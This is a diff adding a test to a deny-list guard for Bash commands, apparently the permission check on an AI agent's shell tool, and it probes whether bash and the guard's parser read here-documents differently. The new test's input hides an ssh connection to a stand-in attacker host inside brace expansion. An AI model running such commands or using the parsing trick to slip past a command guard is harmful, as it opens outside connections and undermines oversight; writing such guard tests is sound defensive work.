@@ -69,6 +69,11 @@ describe("under a deny list, lines bash reads otherwise than the parser", () => 
     }
   });
 
+  it("a line the parser reads on from such an end line is not the line bash reads: a deny not matched cannot tell", () => {
+    // bash finds no end of the function (a syntax error, nothing runs); the guard's reading of it is not bash's.
+    expect(denyList.decide("Bash", { command: "f(){ . /dev/stdin <<EOF\n{ssh,evil.example}\nEOF; }; f" }).mode).not.toBe("allow");
+  });
+
   it("a here-document ended as bash ends it stays as allowed as before", () => {
     // In a command substitution bash ends the here-document where the substitution ends.
     expect(denyList.decide("Bash", { command: "x=$(sh <<EOF\nls\nEOF); echo $x" }).mode).toBe("allow");
